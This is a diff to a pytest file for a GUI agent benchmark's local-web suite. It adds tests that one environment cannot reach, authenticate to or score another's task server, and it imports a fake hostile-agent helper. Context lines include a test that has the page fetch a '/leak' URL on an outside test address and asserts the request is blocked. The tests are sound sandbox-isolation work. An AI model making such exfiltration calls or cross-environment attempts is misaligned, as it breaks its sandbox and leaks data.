@@ -4,12 +4,15 @@ network, exact state restoration, and a random agent's (near-zero) success on lo
 from __future__ import annotations
 
 from collections import Counter
+from urllib.error import HTTPError
+from urllib.request import Request, urlopen
 
 import gymnasium as gym
 import numpy as np
 import pytest
 
 from gui_gym import Action
+from tests.fakes.hostile_agent import run_navigation_attacks
 from gui_gym.suites.localweb.apps import APP_MODULES
 from gui_gym.suites.localweb.suite import LocalWebSuite
 from gui_gym.suites.localweb.templates import DIFFICULTY_STEPS
@@ -64,6 +67,37 @@ def test_the_suite_cannot_leave_loopback(env):
     backend.evaluate("fetch('http://192.0.2.10/leak').catch(() => null)")
     env.step(Action.wait(0))
     assert any("192.0.2.10" in url for url in backend.blocked_requests)
+
+
+def test_an_agents_navigation_attacks_are_its_own_action_errors_and_show_no_host_file():
+    env = gym.make("GUI/LocalWeb-v0", observe_a11y=True, max_steps=50)
+    try:
+        run_navigation_attacks(env, "mail.star")
+    finally:
+        env.close()
+
+
+def test_one_env_cannot_reach_or_score_another_envs_task():
+    a, b = gym.make("GUI/LocalWeb-v0"), gym.make("GUI/LocalWeb-v0")
+    try:
+        b.reset(seed=0, options={"task_id": "mail.star"})
+        a.reset(seed=0, options={"task_id": "mail.star"})  # the same task instance in both
+        target = b.unwrapped.backend.start_url
+        info = a.step(Action.goto(target))[4]
+        assert "is not one of this env's servers" in info["action_error"] and info["infra_error"] is None
+        done = False
+        while not done:  # the actions that solve the task: they reach A's own server only
+            _, reward, terminated, truncated, info = a.step(a.unwrapped.oracle_action())
+            done = terminated or truncated
+        assert info["success"]
+        for request in (Request(target), Request(target + "message/1/star", data=b"value=1", method="POST"),
+                        Request(target, headers=a.unwrapped.suite.server.auth_headers)):  # A's token is not B's
+            with pytest.raises(HTTPError, match="403"):
+                urlopen(request, timeout=10)
+        assert b.step(Action.done())[4]["score"] == 0.0  # B did nothing, and nothing was done for it
+    finally:
+        a.close()
+        b.close()
 
 
 def without_request_logs(world: dict) -> dict:
